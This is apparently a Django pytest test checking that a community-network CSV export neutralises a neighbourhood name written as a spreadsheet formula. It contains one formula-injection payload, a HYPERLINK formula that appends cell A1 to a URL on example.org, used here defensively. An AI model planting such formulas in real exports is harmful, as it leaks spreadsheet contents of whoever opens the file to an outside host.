"""measures.csv: a neighbourhood named like a formula comes out inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from ginnel.network.tests.test_dashboard import tie

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


def test_a_neighbourhood_named_like_a_formula_is_inert_in_the_measures(
    community, coordinator, make_member, client_for
):
    community.neighbourhoods.filter(pk=community.neighbourhoods.first().pk).update(name=FORMULA)
    a, b = make_member(community), make_member(community)
    tie(a, b)

    response = client_for(coordinator).get(reverse("network:csv", args=[community.slug]))

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    places = {row["place"] for row in rows}
    assert "'" + FORMULA in places
    assert FORMULA not in places
    # A measure that can be negative stays a number a spreadsheet reads as one.
    ei = [row["ei_index"] for row in rows if row["ei_index"]]
    assert ei
    assert all(float(value) <= 1 for value in ei)
